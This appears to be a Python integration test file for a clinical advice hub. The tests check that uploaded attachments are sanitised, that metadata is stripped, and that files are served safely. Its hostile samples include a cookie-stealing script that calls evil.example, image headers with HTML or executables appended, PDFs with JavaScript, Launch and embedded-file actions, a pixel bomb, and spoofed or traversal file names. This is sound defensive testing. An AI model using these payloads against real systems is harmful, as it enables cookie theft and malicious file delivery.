"""Files are what they claim and are served as files, over HTTP on SQLite and PostgreSQL.

The hub re-encodes every picture it is sent (a phone's EXIF, trailing HTML or a program
gone), refuses bytes that only start like a picture and PDFs that can run something, and
serves downloads as attachments of their stored type with a digest of what it serves,
which the desktop checks. File names that break the rules are refused in every change
that carries files; honest names in any script are kept, in NFC.
"""

from __future__ import annotations

import base64
import hashlib
import io
import uuid
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from PIL import Image

from bhcp_ag.domain.limits import AttachmentCheck
from bhcp_ag.domain.specialties import SpecialtyCatalogue
from bhcp_ag.domain.targets import ResponseTargets
from bhcp_ag.hub.db import HubDatabase
from bhcp_ag.hub.demo_users import DEMO_GP, DEMO_SPECIALIST
from bhcp_ag.services.requests import AdviceRequests
from bhcp_ag.store.conversations import keep_content
from bhcp_ag.store.models import Attachment, Conversation
from tests.attachment_files import clean_png, letter_pdf, pdf, photo
from tests.integration._client_helpers import FORM, Desk, assert_agree, open_desk
from tests.integration.conftest import HubClient, Sync

__all__ = ["open_desk"]  # the fixture, used here by name

HTML = b"<html><script>document.location='https://evil.example/?'+document.cookie</script>"
EXE = b"MZ\x90\x00\x03" + bytes(120) + b"PE\x00\x00"
JS = "/S /JavaScript /JS (app.alert(1))"


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _put(hub: HubClient, data: bytes, username: str = DEMO_GP) -> Any:
    return hub.request(
        "PUT",
        f"/api/v1/attachments/{_sha(data)}",
        token=hub.token(username),
        data=data,
        headers={"Content-Type": "image/png"},
    )


def _get(hub: HubClient, sha256: str, username: str = DEMO_GP) -> Any:
    return hub.request("GET", f"/api/v1/attachments/{sha256}", token=hub.token(username))


def _sent_with(sync: Sync, *files: bytes) -> None:
    refs = [{"sha256": _sha(data), "filename": f"file{i}.bin"} for i, data in enumerate(files)]
    [sent] = sync.push(DEMO_GP, sync.request(attachments=refs))
    assert sent["status"] == "applied", sent


HOSTILE = {
    "png header + html": b"\x89PNG\r\n\x1a\n" + HTML,
    "png header + program": b"\x89PNG\r\n\x1a\n" + EXE,
    "jpeg header + html": b"\xff\xd8\xff\xe0" + HTML,
    "pdf of html": b"%PDF-1.7\n" + HTML,
    "pdf open action js": pdf(f"/OpenAction << {JS} >>"),
    "pdf escaped js": pdf("/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
    "pdf page action js": pdf(page=f"/AA << /O << {JS} >> >>"),
    "pdf launch": pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "pdf embedded file": pdf(
        "/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>",
        objects=("<< /Type /Filespec /F (x.exe) >>",),
    ),
    "pdf xfa": pdf("/AcroForm << /XFA [] >>"),
}


def test_hostile_files_are_refused_with_a_reason(hub: HubClient) -> None:
    for name, data in HOSTILE.items():
        response = _put(hub, data)
        assert (response.status_code, response.json()["code"]) == (
            415,
            "attachment_type_refused",
        ), name
        assert response.json()["detail"].startswith("The "), name
    bomb = hub.request(
        "PUT",
        f"/api/v1/attachments/{_sha(_bomb())}",
        token=hub.token(DEMO_GP),
        data=_bomb(),
    )
    assert bomb.status_code == 415 and "million pixels" in bomb.json()["detail"]


def _bomb() -> bytes:
    out = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(out, "PNG")  # 144 million pixels in a few kB
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["JPEG", "PNG"])
def test_a_picture_is_kept_clean_and_served_as_a_file(sync: Sync, fmt: str) -> None:
    hub = sync.hub
    sent = photo(fmt) + HTML  # a phone's EXIF (with GPS), a comment, and a web page after it
    put = _put(hub, sent)
    assert put.status_code == 201, put.text
    _sent_with(sync, sent)
    served = _get(hub, _sha(sent), DEMO_SPECIALIST)
    assert served.status_code == 200
    data = served.content
    assert data != sent and put.json()["size"] == len(data)
    for secret in (b"PhoneMaker", b"Mrs Smith", b"GPS", b"<html>", b"evil.example"):
        assert secret not in data
    assert Image.open(io.BytesIO(data)).size == (320, 240)
    mime = f"image/{fmt.lower()}"
    digest = base64.b64encode(hashlib.sha256(data).digest()).decode()
    assert served.headers["content-type"] == mime
    assert served.headers["content-disposition"] == (
        f'attachment; filename="{_sha(sent)}.{fmt.lower()}"'
    )
    assert served.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert served.headers["x-content-type-options"] == "nosniff"
    assert served.headers["content-digest"] == f"sha-256=:{digest}:"


def test_honest_files_are_served_as_they_were_sent(sync: Sync) -> None:
    letter, png = letter_pdf(), clean_png()
    assert _put(sync.hub, letter).status_code == 201
    assert _put(sync.hub, png).status_code == 201
    _sent_with(sync, letter, png)
    served = _get(sync.hub, _sha(letter))
    assert served.content == letter and served.headers["content-type"] == "application/pdf"
    assert served.headers["content-disposition"].endswith(f'{_sha(letter)}.pdf"')
    assert _get(sync.hub, _sha(png)).content == png


@pytest.mark.slow
def test_a_phone_photo_reaches_the_specialist_clean_and_checked(
    hub_server: str, hub_db: HubDatabase, open_desk: Callable[..., Desk]
) -> None:
    gp, specialist = open_desk(hub_server, "demo.gp"), open_desk(hub_server, "demo.specialist")
    requests_ = AdviceRequests(gp.store, SpecialtyCatalogue.load(), ResponseTargets.load())
    draft = requests_.save_draft(gp.user_id, FORM)
    original = photo("JPEG", 4032, 3024, quality=100, noise=0.6)  # over 12 MB, with GPS
    attached = requests_.attach(draft, "IMG_0001.jpg", original)
    assert "was made smaller" in attached.notes[0]
    requests_.submit(gp.user_id, FORM, conversation_id=draft)
    assert gp.sync().applied == 1
    specialist.sync()
    with specialist.store.read_session() as session:
        conv = session.get(Conversation, draft)
        assert conv is not None
        [attachment] = conv.attachments
        received = attachment.content.content
    # The hub encoded the desktop's clean photo once more, so it serves other bytes under
    # the address; the desktop took them on the hub's Content-Digest.
    assert attachment.sha256 == attached.sha256 != _sha(received)
    assert len(received) <= 5 * 1024 * 1024 and b"PhoneMaker" not in received
    with gp.store.read_session() as session:
        conv = session.get(Conversation, draft)
        assert conv is not None
        kept = conv.attachments[0].content.content  # what the GP's desktop made of it
    assert _sha(kept) == attached.sha256
    assert Image.open(io.BytesIO(received)).size == Image.open(io.BytesIO(kept)).size


# --- file names -------------------------------------------------------------------------------

REFUSED_NAMES = [
    "photo\u202egnp.exe",
    "scan\u2066fdp.bat",
    "rash\u200b.png",
    "rash\x00.png",
    "letter\r\n.pdf",
    "../../etc/passwd",
    "C:\\photos\\forearm.png",
    "CON",
    "nul.png",
    "LPT1.pdf",
    "..",
    "rash.png.",
    "rash.png ",
    "x" * 200 + ".png",
]
HONEST_NAMES = ["Ärztebrief.pdf", "صورة.png", "photo 1.jpg", "Re\u0301sultats.pdf"]


def _operation_change(sync: Sync, operation: str, refs: list[dict[str, Any]]) -> dict:
    if operation == "submit":
        return sync.request(attachments=refs)
    [sent] = sync.push(DEMO_GP, sync.request())
    cid = sent["conversation"]["id"]
    message = str(uuid.uuid4())
    ask = {"outcome": "REQUIRE_FURTHER_INFORMATION", "body": "Please send a closer photo."}
    if operation == "respond":
        return sync.change("respond", cid, message_id=message, attachments=refs, **ask)
    [asked] = sync.push(DEMO_SPECIALIST, sync.change("respond", cid, message_id=message, **ask))
    assert asked["status"] == "applied"
    return sync.change("reply", cid, message_id=str(uuid.uuid4()), body="Here.", attachments=refs)


@pytest.mark.parametrize("operation", ["submit", "reply", "respond"])
def test_file_names_that_break_the_rules_are_refused(sync: Sync, operation: str) -> None:
    author = DEMO_SPECIALIST if operation == "respond" else DEMO_GP
    png = clean_png()
    assert _put(sync.hub, png, author).status_code == 201
    for name in REFUSED_NAMES:
        change = _operation_change(sync, operation, [{"sha256": _sha(png), "filename": name}])
        [result] = sync.push(author, change)
        # NUL is refused already by the wire schema (PostgreSQL text cannot hold it).
        code = "invalid_payload" if "\x00" in name else "invalid_file_name"
        assert (result["status"], result["code"]) == ("rejected", code), name
        assert code == "invalid_payload" or "cannot be used" in result["reason"]
        assert "\u202e" not in result["reason"] and "\x00" not in result["reason"]
    refs = [{"sha256": _sha(png), "filename": name} for name in HONEST_NAMES]
    [kept] = sync.push(author, _operation_change(sync, operation, refs))
    assert kept["status"] == "applied", kept
    names = {a["filename"] for a in kept["conversation"]["attachments"]}
    assert {"Ärztebrief.pdf", "صورة.png", "photo 1.jpg", "R\u00e9sultats.pdf"} <= names


def test_a_file_kept_before_the_checks_is_refused_with_the_hubs_reason(
    hub_server: str, hub_db: HubDatabase, open_desk: Callable[..., Desk]
) -> None:
    gp = open_desk(hub_server, "demo.gp")
    requests_ = AdviceRequests(gp.store, SpecialtyCatalogue.load(), ResponseTargets.load())
    draft = requests_.save_draft(gp.user_id, FORM)
    hostile = HOSTILE["pdf open action js"]
    with gp.store.session() as session:  # as a store from before the desktop checked PDFs
        keep_content(
            session, AttachmentCheck("application/pdf", len(hostile), _sha(hostile)), hostile
        )
        session.add(
            Attachment(id=str(uuid.uuid4()), conversation_id=draft, sha256=_sha(hostile),
                       filename="results.pdf", created_at=datetime.now(UTC))
        )  # fmt: skip
    requests_.submit(gp.user_id, FORM, conversation_id=draft)
    [rejection] = gp.sync().rejections
    assert rejection.code == "attachment_missing" and rejection.back_to_draft
    assert rejection.reason.startswith("'results.pdf': The PDF cannot be attached: it contains")
    with gp.store.read_session() as session:
        conv = session.get(Conversation, draft)
        assert conv is not None and conv.status == "draft"
        assert [a.filename for a in conv.attachments] == ["results.pdf"]  # nothing lost
    assert_agree(hub_db, gp)
